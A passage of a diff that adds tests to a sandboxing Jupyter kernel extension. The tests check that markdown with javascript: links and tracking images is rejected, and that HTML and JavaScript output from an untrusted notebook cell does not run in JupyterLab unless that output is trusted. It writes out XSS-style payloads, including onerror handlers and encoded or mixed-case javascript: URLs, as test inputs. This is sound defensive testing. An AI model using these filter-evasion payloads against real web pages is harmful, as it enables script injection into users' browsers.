+        ("[x](JaVaScRiPt:alert(1))", False),
+        ("[x][r]\n\n[r]:\n  javascript:alert(1)", False),
+        ("[x](java&#115;cript:alert(1))", False),
+        ("[x](javascript\\:alert(1))", False),
+        ("![t](https://example.invalid/track.png)", False),
+        ("![t](//example.invalid/track.png)", False),
+        ("<https://example.org>", False),
+    ],
+)
+def test_markdown_is_kept_only_when_inert(markdown, inert):
+    assert (untrusted.markdown_problem(markdown) is None) is inert
+
+
+# ------------------------------------------------------------------ in a real browser
+
+UNTRUSTED_CELL = """\
+%%sandbox
+from IPython.display import HTML, Javascript, display
+display(HTML('<img src="x" onerror="window.nskHtml = 1; document.title = `pwned`">'))
+display(Javascript("window.nskJs = 1; document.title = 'pwned'"))
+print("cell A done")
+"""
+TRUSTED_CELL = """\
+%%sandbox --trust-output
+from IPython.display import HTML, Javascript, display
+display(HTML('<img src="x" onerror="window.nskTrustedHtml = 1">'))
+display(Javascript("window.nskTrustedJs = 1"))
+print("cell B done")
+"""
+
+
+@pytest.mark.browser
+@pytest.mark.slow
+def test_jupyterlab_runs_no_active_output_of_a_sandbox_unless_trusted(lab, tmp_path):  # noqa: F811
+    from playwright.sync_api import sync_playwright
+
+    from tests.browser import CHROMIUM, CHROMIUM_ARGS
+
+    url, token, notebooks = lab
+    cells = ["%load_ext nskernel", UNTRUSTED_CELL, TRUSTED_CELL]
+    code_cell = {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": []}
+    nb = {
+        "cells": [{**code_cell, "source": source} for source in cells],
+        "metadata": {
+            "kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}
+        },
+        "nbformat": 4,
+        "nbformat_minor": 5,
+    }
+    (notebooks / "hostile.ipynb").write_text(json.dumps(nb))
+    with sync_playwright() as p:
+        browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
+        try:
+            page = browser.new_page(viewport={"width": 1400, "height": 1000})
+            page.goto(f"{url}/lab/tree/hostile.ipynb?token={token}")
+            page.wait_for_selector(".jp-Notebook .jp-Cell", timeout=90_000)
+            page.get_by_text("Python 3 (ipykernel) | Idle").wait_for(timeout=90_000)
+            page.click(".jp-Cell .jp-InputArea-editor")
+            for _ in cells:  # run each cell as a user does
+                page.keyboard.press("Shift+Enter")
+            try:
+                page.locator(".jp-OutputArea-output", has_text="cell B done").wait_for(
+                    timeout=90_000
+                )
+                # The trusted cell's output runs (so this page would have run the other's):
+                page.wait_for_function(
+                    "window.nskTrustedHtml === 1 && window.nskTrustedJs === 1", timeout=60_000
+                )
+            except Exception:
+                page.screenshot(path=str(tmp_path / "failure.png"))
+                raise
+            seen = page.evaluate("[window.nskHtml, window.nskJs, document.title]")
+            assert seen[0] is None and seen[1] is None, seen
+            assert seen[2] != "pwned"
+            note = page.locator(".jp-Cell", has_text="cell A done").last
+            assert "made inert for the browser" in note.inner_text()
+            assert "--trust-output" in note.inner_text()
+        finally:
+            browser.close()
